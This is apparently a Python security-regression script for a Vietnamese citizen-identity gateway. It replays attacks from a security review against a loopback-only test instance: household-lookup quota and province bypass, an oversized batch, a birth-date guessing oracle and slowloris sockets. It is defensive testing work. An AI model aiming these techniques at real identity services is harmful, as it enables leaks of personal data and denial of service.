"""Replay the attacks of the security review against a served gateway and print what each achieved.

Not a test and not a load generator: every attack is bounded (a few hundred requests, a few hundred sockets,
one large batch) and talks to loopback only. It prints what an attacker got; it asserts nothing. Run it before
and after a security change and compare the two outputs.

By default it builds its own world in a temporary directory: seeds the mock national database, migrates a
gateway database (SQLite), creates the first admin client with ``dancu bootstrap-admin`` and serves the gateway
with ``dancu serve`` on a free loopback port (stopped at the end). With ``--url`` it targets a gateway that is
already served instead; then ``--admin FILE`` (``{"client_id", "client_secret"}`` of an admin client) and
``--mock-database-url`` (the mock database the gateway reads, to pick residents and check answers) are needed.
Either way every client, grant and purpose it uses is created through the admin API.

The attacks (``--only``, comma-separated):

    household_quota     a client allowed 5 distinct residents a day calls household for residents of
                        different households: how many distinct residents' IDs and names come back
    household_province  a province-52 client calls household where a member lives in another province:
                        members outside the grant returned, and whether their own lookup answers 404
    batch               one batch of 250,000 non-object items (status, answer size, time), and batches of
                        100 valid items from a client limited to 30 requests a minute (items answered)
    oracle              a verify-only client of province 52 guesses the birth date of a resident of
                        province 79: 12 month guesses, then the days of the month found
    slow                sockets that send half a header line, and POSTs that promise 100 KB and send one
                        byte: how many the gateway still holds open after ``--slow-wait`` seconds

Usage: .venv/bin/python bench/attack.py [--count 20000] [--only KEYS] [--slow-headers 300]
       [--slow-bodies 100] [--slow-wait 20] [--url URL --admin FILE --mock-database-url URL]
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import json
import os
import re
import secrets
import select
import signal
import socket
import sqlite3
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from vnid import parse_personal_id

ROOT = Path(__file__).resolve().parent.parent
BIN = Path(sys.executable).parent
ATTACKS = ("household_quota", "household_province", "batch", "oracle", "slow")


# ---------------------------------------------------------------------------------------------- HTTP


@dataclass
class Answer:
    status: int
    body: Any
    size: int
    seconds: float

    @property
    def code(self) -> str | None:
        return self.body.get("code") if isinstance(self.body, dict) else None


class Gateway:
    """A served gateway on loopback, spoken to with the standard library only."""

    def __init__(self, url: str) -> None:
        host = urlsplit(url).hostname or ""
        if host not in ("127.0.0.1", "localhost", "::1"):
            sys.exit(f"attack.py talks to loopback only, not {host!r}")
        self.url = url.rstrip("/")

    def call(
        self,
        method: str,
        path: str,
        body: Any = None,
        headers: dict[str, str] | None = None,
        raw: bytes = b"",
    ) -> Answer:
        data = raw or (json.dumps(body).encode() if body is not None else None)
        sent = {"Content-Type": "application/json", **(headers or {})}
        request = urllib.request.Request(self.url + path, data=data, method=method, headers=sent)  # noqa: S310
        started = time.perf_counter()
        try:
            with urllib.request.urlopen(request, timeout=120) as response:  # noqa: S310 - loopback only
                status, payload = response.status, response.read()
        except urllib.error.HTTPError as err:
            status, payload = err.code, err.read()
        seconds = time.perf_counter() - started
        try:
            parsed = json.loads(payload) if payload else None
        except ValueError:
            parsed = None
        return Answer(status, parsed, len(payload), seconds)

    def token(self, client: dict[str, str]) -> str:
        basic = base64.b64encode(f"{client['client_id']}:{client['client_secret']}".encode()).decode()
        answer = self.call(
            "POST",
            "/oauth2/token",
            raw=b"grant_type=client_credentials",
            headers={"Authorization": "Basic " + basic, "Content-Type": "application/x-www-form-urlencoded"},
        )
        if answer.status != 200:
            sys.exit(f"token endpoint answered {answer.status}: {answer.body}")
        return str(answer.body["access_token"])


class Admin:
    """Sets up the attackers' clients, grants and purpose through the admin API."""

    def __init__(self, gateway: Gateway, admin: dict[str, str]) -> None:
        self.gateway = gateway
        self.headers = {"Authorization": "Bearer " + gateway.token(admin)}
        self.purpose = "ATTACK-" + secrets.token_hex(3)
        self._ok(
            self.gateway.call(
                "POST",
                "/v1/admin/purposes",
                {"code": self.purpose, "title": "Kiểm thử tấn công", "legal_basis": "Không áp dụng"},
                self.headers,
            ),
            201,
        )

    @staticmethod
    def _ok(answer: Answer, *expected: int) -> Any:
        if answer.status not in expected:
            sys.exit(f"set-up refused: {answer.status} {answer.body}")
        return answer.body

    def client(self, name: str, **grant: Any) -> dict[str, str]:
        created = self._ok(self.gateway.call("POST", "/v1/admin/clients", {"name": name}, self.headers), 201)
        client = {"client_id": created["client_id"], "client_secret": created["client_secret"]}
        self._ok(
            self.gateway.call(
                "PUT",
                f"/v1/admin/clients/{client['client_id']}/grant",
                {"purposes": [self.purpose], **grant},
                self.headers,
            ),
            200,
        )
        return client

    def citizen_headers(self, client: dict[str, str]) -> dict[str, str]:
        return {"Authorization": "Bearer " + self.gateway.token(client), "X-Purpose": self.purpose}


# --------------------------------------------------------------------------------- the mock's residents


class Residents:
    """Ground truth read straight from the mock's SQLite database (to pick targets and check answers)."""

    def __init__(self, database_url: str) -> None:
        path = database_url.split("///", 1)[-1]
        if not database_url.startswith("sqlite") or not Path(path).is_file():
            sys.exit("--mock-database-url must name the mock's SQLite file")
        self.conn = sqlite3.connect(f"file:{Path(path).resolve()}?mode=ro", uri=True)

    def record(self, personal_id: str) -> dict[str, Any]:
        row = self.conn.execute(
            "SELECT ban_ghi FROM csdlqg_cong_dan WHERE so_dinh_danh = ?", (personal_id,)
        ).fetchone()
        return dict(json.loads(row[0])) if row else {}

    def province(self, personal_id: str) -> str | None:
        row = self.conn.execute(
            "SELECT ma_tinh FROM csdlqg_cong_dan WHERE so_dinh_danh = ?", (personal_id,)
        ).fetchone()
        return str(row[0]) if row else None

    def one_per_household(self, province: str, n: int) -> list[str]:
        """Residents of ``province`` in ``n`` different households of at least three members."""
        rows = self.conn.execute(
            "SELECT min(so_dinh_danh) FROM csdlqg_cong_dan WHERE ma_tinh = ? AND ma_ho IS NOT NULL "
            "GROUP BY ma_ho HAVING count(*) >= 3 ORDER BY ma_ho LIMIT ?",
            (province, n),
        ).fetchall()
        return [r[0] for r in rows]

    def households_reaching_out(self, province: str, n: int) -> list[str]:
        """Residents of ``province`` whose household has a member living in another province."""
        rows = self.conn.execute(
            "SELECT min(a.so_dinh_danh) FROM csdlqg_cong_dan a JOIN csdlqg_cong_dan b ON a.ma_ho = b.ma_ho "
            "WHERE a.ma_tinh = ? AND b.ma_tinh <> ? GROUP BY a.ma_ho ORDER BY a.ma_ho LIMIT ?",
            (province, province, n),
        ).fetchall()
        return [r[0] for r in rows]

    def living_in(self, province: str, n: int, *, day_precision: bool = False) -> list[str]:
        found: list[str] = []
        for (personal_id,) in self.conn.execute(
            "SELECT so_dinh_danh FROM csdlqg_cong_dan WHERE ma_tinh = ? ORDER BY stt", (province,)
        ):
            record = self.record(personal_id)
            if record.get("ngayMat"):
                continue
            if day_precision and len(str(record.get("ngaySinh") or "")) != 10:
                continue
            found.append(personal_id)
            if len(found) == n:
                break
        return found


# ---------------------------------------------------------------------------------------------- attacks


def household_quota(gw: Gateway, admin: Admin, residents: Residents) -> list[str]:
    quota = 5
    client = admin.client(
        "attack household quota",
        scopes=["household.read"],
        provinces=["52"],
        distinct_subjects_per_day=quota,
    )
    headers = admin.citizen_headers(client)
    collected: set[str] = set()
    statuses: list[int] = []
    for personal_id in residents.one_per_household("52", 8):
        answer = gw.call("POST", "/v1/citizens/household", {"personal_id": personal_id}, headers)
        statuses.append(answer.status)
        if answer.status == 200:
            collected.update(m["personal_id"] for m in answer.body["members"] if m.get("full_name"))
    return [
        f"distinct_subjects_per_day = {quota}; 8 household calls answered {statuses}",
        f"distinct residents whose ID and name came back: {len(collected)}",
    ]


def household_province(gw: Gateway, admin: Admin, residents: Residents) -> list[str]:
    client = admin.client(
        "attack household province",
        scopes=["household.read", "citizen.read"],
        fields=["full_name"],
        provinces=["52"],
    )
    headers = admin.citizen_headers(client)
    named = residents.households_reaching_out("52", 10)
    outside: list[str] = []
    heads_outside = 0
    for personal_id in named:
        answer = gw.call("POST", "/v1/citizens/household", {"personal_id": personal_id}, headers)
        if answer.status != 200:
            continue
        for member in answer.body["members"]:
            if residents.province(member["personal_id"]) != "52":
                outside.append(member["personal_id"])
        head = answer.body.get("head")
        if head and residents.province(head["personal_id"]) != "52":
            heads_outside += 1
    lookups_404 = sum(
        gw.call("POST", "/v1/citizens/lookup", {"personal_id": pid}, headers).status == 404 for pid in outside
    )
    return [
        f"household calls for {len(named)} residents of 52 whose household reaches another province",
        f"members living outside 52 returned (ID and name): {len(outside)} (heads among them: {heads_outside})",
        f"of those, lookups answering 404 'unknown' (so: exists, elsewhere): {lookups_404}",
    ]


def batch(gw: Gateway, admin: Admin, residents: Residents) -> list[str]:
    client = admin.client(
        "attack batch",
        scopes=["citizen.verify"],
        provinces=["52"],
        rate_limit_per_minute=30,
        distinct_subjects_per_day=100_000,
    )
    headers = admin.citizen_headers(client)
    raw = b'{"items": [' + b",".join([b"1"] * 250_000) + b"]}"
    big = gw.call("POST", "/v1/citizens/verify/batch", headers=headers, raw=raw)
    errors = big.body.get("errors") if isinstance(big.body, dict) else None
    lines = [
        f"250,000 non-object items ({len(raw) / 1e3:,.0f} KB): {big.status} {big.code}, "
        f"answer {big.size / 1e6:.2f} MB, {len(errors) if isinstance(errors, list) else 0} errors listed, "
        f"{big.seconds:.2f} s",
    ]
    ids = residents.living_in("52", 100)
    answered = refused = 0
    statuses: list[int] = []
    for _ in range(5):
        items = [{"personal_id": pid, "gender": "male"} for pid in ids]
        answer = gw.call("POST", "/v1/citizens/verify/batch", {"items": items}, headers)
        statuses.append(answer.status)
        if answer.status == 200:
            for result in answer.body["results"]:
                if "problem" in result:
                    refused += 1
                else:
                    answered += 1
    lines.append(
        f"rate_limit_per_minute = 30; 5 batches of 100 within a minute answered {statuses}: "
        f"{answered} items verified, {refused} items refused"
    )
    return lines


def oracle(gw: Gateway, admin: Admin, residents: Residents) -> list[str]:
    client = admin.client("attack oracle", scopes=["citizen.verify"], provinces=["52"])
    headers = admin.citizen_headers(client)
    (target,) = residents.living_in("79", 1, day_precision=True)
    truth = str(residents.record(target)["ngaySinh"])
    year = parse_personal_id(target).birth_year
    requests = 0

    def guess(dates: list[str]) -> tuple[str | None, list[int]]:
        nonlocal requests
        requests += 1
        items = [{"personal_id": target, "date_of_birth": d} for d in dates]
        answer = gw.call("POST", "/v1/citizens/verify/batch", {"items": items}, headers)
        if answer.status != 200:
            return None, [answer.status]
        hits = [r for r in answer.body["results"] if r.get("match") is True]
        statuses = [r.get("problem", {}).get("status", 200) for r in answer.body["results"]]
        return (dates[hits[0]["index"]] if hits else None), statuses

    month, month_statuses = guess([f"{year}-{m:02d}" for m in range(1, 13)])
    learned = month
    day_statuses: list[int] = []
    if month is not None:
        learned, day_statuses = guess([f"{month}-{d:02d}" for d in range(1, 32) if _real(f"{month}-{d:02d}")])

    def summary(statuses: list[int]) -> str:
        counts: dict[int, int] = {}
        for status in statuses:
            counts[status] = counts.get(status, 0) + 1
        return ", ".join(f"{n}×{s}" for s, n in sorted(counts.items())) or "not sent"

    return [
        "target: a resident of province 79 (outside the client's provinces), birth date on record to the day",
        f"month guesses (one batch of 12): {summary(month_statuses)}",
        f"day guesses (one batch): {summary(day_statuses)}",
        f"learned in {requests} requests: {learned or 'nothing'}"
        + (" (exact birth date: correct)" if learned == truth else ""),
    ]


def _real(text: str) -> bool:
    try:
        time.strptime(text, "%Y-%m-%d")
    except ValueError:
        return False
    return True


def slow(gw: Gateway, headers_n: int, bodies_n: int, wait: float) -> list[str]:
    parts = urlsplit(gw.url)
    address = (parts.hostname or "127.0.0.1", parts.port or 80)
    half_header = b"GET /healthz HTTP/1.1\r\nHost: attack\r\nX-Slow: aaaa"
    stalled_body = (
        b"POST /oauth2/token HTTP/1.1\r\nHost: attack\r\n"
        b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\ng"
    )
    socks: list[tuple[str, socket.socket]] = []
    failed = 0
    try:
        for kind, count, payload in (("header", headers_n, half_header), ("body", bodies_n, stalled_body)):
            for _ in range(count):
                try:
                    sock = socket.create_connection(address, timeout=5)
                    sock.sendall(payload)
                except OSError:
                    failed += 1
                    continue
                socks.append((kind, sock))
        time.sleep(wait)
        outcome: dict[tuple[str, str], int] = {}
        for kind, sock in socks:
            readable, _, _ = select.select([sock], [], [], 0)
            state = "still open"
            if readable:
                try:
                    data = sock.recv(4096)
                except OSError:
                    data = b""
                state = "closed" if not data else "answered " + data.split(b"\r\n", 1)[0].decode("latin-1")
            outcome[kind, state] = outcome.get((kind, state), 0) + 1
    finally:
        for _, sock in socks:
            with contextlib.suppress(OSError):
                sock.close()
    lines = []
    for kind, total, label in (
        ("header", headers_n, "half a header line"),
        ("body", bodies_n, "a POST promising 100 KB, 1 byte sent"),
    ):
        states = ", ".join(f"{n} {state}" for (k, state), n in sorted(outcome.items()) if k == kind)
        lines.append(f"{total} connections sending {label}, after {wait:.0f} s: {states}")
    if failed:
        lines.append(f"{failed} connections could not be opened")
    return lines


RESIDENT_ATTACKS: dict[str, Callable[[Gateway, Admin, Residents], list[str]]] = {
    "household_quota": household_quota,
    "household_province": household_province,
    "batch": batch,
    "oracle": oracle,
}


# --------------------------------------------------------------------------------------- the world


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port: int = sock.getsockname()[1]
        return port


def run(env: dict[str, str], cwd: Path, *args: str) -> str:
    return subprocess.run(args, env=env, cwd=cwd, capture_output=True, text=True, check=True).stdout


@contextlib.contextmanager
def own_gateway(count: int, log: list[str]) -> Iterator[tuple[str, dict[str, str], str]]:
    """Seed, migrate, bootstrap and serve a gateway in a temporary directory; yields (url, admin, mock URL).
    Its log lines go to a file; at the end ``log`` holds the levels and messages of the WARNING and ERROR ones."""
    with tempfile.TemporaryDirectory(prefix="dancu-attack-") as tmp:
        work = Path(tmp)
        mock_url = f"sqlite:///{work / 'mock.db'}"
        port = free_port()
        env = {
            **os.environ,
            "DANCU_DATABASE_URL": f"sqlite:///{work / 'dancu.db'}",
            "MOCK_CSDLQG_DATABASE_URL": mock_url,
            "DANCU_BACKEND": "embedded",
        }
        env.pop("DANCU_REDIS_URL", None)
        print(f"seeding {count:,} residents, migrating, serving on 127.0.0.1:{port} ...", flush=True)
        run(env, work, str(BIN / "mock-csdlqg"), "seed", "--count", str(count), "--database-url", mock_url)
        run(env, work, str(BIN / "dancu"), "db", "upgrade")
        admin = json.loads(
            run(env, work, str(BIN / "dancu"), "bootstrap-admin", "--name", "attack", "--json")
        )
        log_file = (work / "gateway.log").open("wb")
        proc = subprocess.Popen(
            [str(BIN / "dancu"), "serve", "--port", str(port), "--log-level", "warning"],
            env=env,
            cwd=work,
            start_new_session=True,
            stdout=subprocess.DEVNULL,
            stderr=log_file,
        )
        url = f"http://127.0.0.1:{port}"
        try:
            deadline = time.monotonic() + 30
            while True:
                try:
                    with urllib.request.urlopen(url + "/healthz", timeout=1):  # noqa: S310 - loopback
                        break
                except OSError:
                    if time.monotonic() > deadline or proc.poll() is not None:
                        sys.exit("the gateway did not start")
                    time.sleep(0.2)
            yield url, admin, mock_url
        finally:
            os.killpg(proc.pid, signal.SIGTERM)
            try:
                proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                os.killpg(proc.pid, signal.SIGKILL)
                proc.wait()
            log_file.close()
            for line in (work / "gateway.log").read_text(errors="replace").splitlines():
                try:
                    entry = json.loads(line)
                except ValueError:
                    entry = {"level": "?", "message": line}
                if isinstance(entry, dict) and entry.get("level") in ("WARNING", "ERROR", "CRITICAL", "?"):
                    log.append(f"{entry.get('level')}: {str(entry.get('message'))[:100]}")


def main() -> None:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--only", default=",".join(ATTACKS), help="comma-separated attacks")
    parser.add_argument("--count", type=int, default=20_000, help="residents to seed (own gateway)")
    parser.add_argument("--slow-headers", type=int, default=300)
    parser.add_argument("--slow-bodies", type=int, default=100)
    parser.add_argument("--slow-wait", type=float, default=20.0)
    parser.add_argument("--url", help="a gateway already served on loopback")
    parser.add_argument("--admin", type=Path, help='with --url: {"client_id", "client_secret"} of an admin')
    parser.add_argument("--mock-database-url", help="with --url: the mock's SQLite database it reads")
    args = parser.parse_args()
    chosen = [a.strip() for a in args.only.split(",") if a.strip()]
    if unknown := set(chosen) - set(ATTACKS):
        parser.error(f"unknown attacks: {', '.join(sorted(unknown))}")
    if args.slow_headers + args.slow_bodies > 2000:
        parser.error("at most 2,000 slow sockets (this is a replay, not a stress test)")

    log: list[str] = []
    with contextlib.ExitStack() as stack:
        if args.url:
            if args.admin is None or args.mock_database_url is None:
                parser.error("--url needs --admin and --mock-database-url")
            url, admin_client, mock_url = args.url, json.loads(args.admin.read_text()), args.mock_database_url
        else:
            url, admin_client, mock_url = stack.enter_context(own_gateway(args.count, log))
        gw = Gateway(url)
        residents = Residents(mock_url)
        admin = Admin(gw, admin_client)
        for name in chosen:
            started = time.perf_counter()
            if name == "slow":
                lines = slow(gw, args.slow_headers, args.slow_bodies, args.slow_wait)
            else:
                lines = RESIDENT_ATTACKS[name](gw, admin, residents)
            print(f"\n[{name}] ({time.perf_counter() - started:.1f} s)")
            for line in lines:
                print("  " + line)
    if not args.url:
        print(f"\n[gateway log] {len(log)} warning or error lines")
        counted: dict[str, int] = {}
        for line in log:
            key = re.sub(r"\(request_id=[^)]*\)|request_id=\S+", "", line)
            counted[key] = counted.get(key, 0) + 1
        for line, n in sorted(counted.items(), key=lambda item: -item[1]):
            print(f"  {n} × {line}")


if __name__ == "__main__":
    main()
